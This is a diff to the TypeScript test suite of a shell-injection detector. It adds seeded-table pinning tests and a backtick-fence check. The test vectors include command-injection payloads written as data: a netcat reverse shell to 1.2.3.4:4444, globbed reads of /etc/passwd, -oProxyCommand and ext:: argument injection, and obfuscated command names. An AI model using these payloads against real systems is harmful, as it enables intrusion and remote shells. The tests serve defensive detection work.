@@ -1,9 +1,10 @@
 import t from 'tap';
-import { detectShellInjection, PLAIN_PCT_KINDS } from '../../src/detectors/shell-injection';
+import { detectShellInjection, PLAIN_PCT_KINDS, SCAN_FOR_TEST } from '../../src/detectors/shell-injection';
 import { ShellLexer, TK_END, TK_WORD, W_UNQUOTED } from '../../src/tokenizers/shell';
 import { charMask } from '../../src/charclass';
 import { createEngine } from '../../src/engine';
 import { prng } from '../helpers/prng';
+import { verdictDigest, verdictKey, verdictTable } from '../helpers/verdict-table';
 
 // Test vectors written for this project (not copied from any payload corpus).
 
@@ -1340,3 +1341,95 @@ function pinnedTable(gen: () => string): { findings: number; high: number; diges
   }
   return { findings, high, digest: (h >>> 0).toString(16) };
 }
+
+// Session 18 (shell on dense punctuation): mayFind's one-piece run path, the escape and colon reads
+// without a second load, the forward `}` search, the fence search, argumentInjection's late mask and
+// withoutTags' short `<` search. Both digests are the base build's (2ca00a4): mayFind's answer in
+// every mode (bsl none / bare / quoted, tick, pct) on the whole value and on a sub-range, and the
+// detector's verdicts with and without the caller's charMask. The pieces hold what mayFind reads
+// specially: escapes (`\\x`, `\\n`, `\\033[`, an escaped quote or separator), quote and tick glue
+// (`c'a't`, `` i`e`x ``), drives (`C:/`, `c:\\`), `{` with and without `}`, `(` after `&` or `.`, `%`,
+// `^`, globs and `/` words. A scratch differential of the base dist against this build (mayFind in
+// every mode, withoutTags, argumentInjection and the verdicts, ~170k strings) found no difference,
+// and caught the change planted in the `}` search.
+const S18_PIECES_A: string[] = ["'", "\"", "`", "\\", "(", ")", "[", "]", "{", "}", ";", ":", "|", "&", "$", "%", "#", "@", "!", "*", "+", "-", "=", "<", ">", "/", "?", ".", ",", "~", "^", "_", " ", "0", "a", "x", "\t", "\n", "-('\\0", "a: b&", "\\x(", "`\\'(", "x:/&0", "</a>x", "&{'", "%'\\;", "\\n", "\\r", "\\033[", "\\;", "\\&", "\\'", "c\\at", "c'a't", "w\"h\"o", "i`e`x", "`id`", "` `", "```", "id", "whoami", "cat", "ls", "sh", "bin", "exist", "python3", "apt-get", "C:/", "c:\\", "X:/a", "/etc/passwd", "/??t", "&(", ".(", " & ('i'+'ex')", "{ls,-la}", "() {", ") {", "${IFS}", "$(", "%COMSPEC:~-7,3%", "^w^h", "DownloadString", "Down\\loadString", "<a href=\"x\">", "</b>", "<br/>", "-oProxyCommand=", "ext::", "--upload-pack=", "-c ", "e", "Tom & Jerry", "salt; pepper"];
+// Glob words in command position (isGlobSysPath's length test, isGlobCommandName's early return).
+const S18_PIECES_C: string[] = ["/", "?", "*", "[", "]", "|", ";", "&", " ", "b", "i", "n", "u", "s", "r", "e", "t", "c", "a", "x", "6", "4", "o", "[bs]", "[!a]", "l", "/??", "/???/", "c?t", "/et?/pass??", "who?mi", "/*/", "n?at", "'", "\"", "|/?", ";/?;", "*;/", ";+/*"];
+const S18_PIECES_B: string[] = ["'", "\"", "`", "\\", "(", ")", "[", "{", ";", ":", "|", "&", "!", "*", "+", "-", "=", "/", "?", ".", ",", "~", "_", " ", "0", "1", "a", "x", "b", "-('\\0", "a: b&", "\\x(", "`\\'(", "x:/&0", "&{'", "\\;", "\\'", "\\0", "c\\at", "c'a't", "i`e`x", "C:/", "X:/a", "&(", ".(", "ls", "id", "e", "'x'", "ab", "a_0"];
+
+function scanPin(pieces: readonly string[]): { mayFind: string; trues: number; verdicts: string; findings: number } {
+  const { mayFind, BSL_NONE, BSL_BARE, BSL_QUOTED } = SCAN_FOR_TEST;
+  const table = verdictTable(1818, pieces, 4000);
+  const keys: string[] = [];
+  let trues = 0;
+  for (const s of table) {
+    const n = s.length;
+    const a = Math.floor(n / 3);
+    const b = n - Math.floor(n / 4);
+    for (const bsl of [BSL_NONE, BSL_BARE, BSL_QUOTED]) {
+      for (const tick of [false, true]) {
+        for (const pct of [false, true]) {
+          const x = mayFind(s, 0, n, bsl, tick, pct);
+          const y = mayFind(s, a, b, bsl, tick, pct);
+          if (x) trues++;
+          keys.push(x ? '1' : '0', y ? '1' : '0');
+        }
+      }
+    }
+  }
+  const vk: string[] = [];
+  let findings = 0;
+  for (const s of table) {
+    const d = detectShellInjection(s);
+    if (d !== undefined) findings++;
+    vk.push(verdictKey(d), verdictKey(detectShellInjection(s, charMask(s))));
+  }
+  return { mayFind: verdictDigest(keys), trues, verdicts: verdictDigest(vk), findings };
+}
+
+t.test('dense punctuation: mayFind and verdicts pinned on seeded tables (session 18 fast paths)', async (t) => {
+  t.same(scanPin(S18_PIECES_A), { mayFind: '8aca249b', trues: 44943, verdicts: '9da67339', findings: 1604 });
+  t.same(scanPin(S18_PIECES_B), { mayFind: '7f96b3dd', trues: 39304, verdicts: '69dc41e1', findings: 365 });
+  t.same(scanPin(S18_PIECES_C), { mayFind: 'c8f751dd', trues: 34860, verdicts: '5ba4c749', findings: 650 });
+  for (const w of ['/???/c?t /et?/pass??', '|/bi?/c?t /etc/passwd', ';/???/who?mi', ';/*/n?at -e sh 1.2.3.4 4444']) {
+    t.equal(detectShellInjection(w)?.confidence, 'high', w);
+  }
+  // The session's shapes stay clean, and what each fast path hands on still answers.
+  for (const u of ["-('\\0", 'a: b&', '\\x(', "`\\'(", 'x:/&0', '</a>x', "&{'"]) t.equal(detectShellInjection(u.repeat(13108)), undefined, JSON.stringify(u));
+  // (The base build's verdicts, checked against it.)
+  t.equal(SCAN_FOR_TEST.mayFind("&{'".repeat(50) + '}', 0, 151, SCAN_FOR_TEST.BSL_QUOTED, true, false), true, 'a `}` after a `{` may brace-expand');
+  t.equal(SCAN_FOR_TEST.mayFind("}&{'".repeat(50), 0, 200, SCAN_FOR_TEST.BSL_QUOTED, true, false), true, 'a `}` after the first `{`');
+  t.equal(SCAN_FOR_TEST.mayFind("}&{'", 0, 3, SCAN_FOR_TEST.BSL_QUOTED, true, false), false, 'only a `}` before it');
+  t.equal(detectShellInjection('-('.repeat(100) + ';id')?.confidence, 'high');
+  t.equal(detectShellInjection('a: b&'.repeat(100) + 'whoami')?.confidence, 'high');
+  t.equal(detectShellInjection('\\x('.repeat(100) + ';w\\hoami')?.rule, 'shell.obfuscated-command');
+  t.equal(detectShellInjection('\\x('.repeat(100) + ' $(id)')?.confidence, 'high');
+  t.equal(detectShellInjection('x:/&0'.repeat(100) + '&cat /etc/passwd')?.confidence, 'high');
+  t.equal(detectShellInjection('</a>x'.repeat(100) + '<b>;cat /etc/passwd</b>')?.confidence, 'high');
+  t.equal(detectShellInjection("`\\'(".repeat(100) + '`id`')?.rule, 'shell.substitution');
+  t.equal(detectShellInjection('-oProxyCommand=sh -c id')?.confidence, 'high');
+  t.equal(detectShellInjection('ext::sh -c touch% /tmp/pwned')?.confidence, 'high');
+  t.end();
+});
+
+t.test('hasFence is indexOf of three backticks, at any density', async (t) => {
+  const { hasFence } = SCAN_FOR_TEST;
+  let bad = 0;
+  for (let len = 0; len <= 13; len++) {
+    for (let b = 0; b < 1 << len; b++) {
+      let s = '';
+      for (let k = 0; k < len; k++) s += (b >> k) & 1 ? '`' : 'x';
+      if (hasFence(s) !== s.includes('```')) bad++;
+    }
+  }
+  const r = prng(1819);
+  for (let i = 0; i < 20000; i++) {
+    let s = '';
+    const p = r();
+    const len = Math.floor(r() * 80);
+    for (let k = 0; k < len; k++) s += r() < p ? '`' : "ab\\' ("[Math.floor(r() * 6)]!;
+    if (hasFence(s) !== s.includes('```')) bad++;
+  }
+  t.equal(bad, 0);
+  t.end();
+});
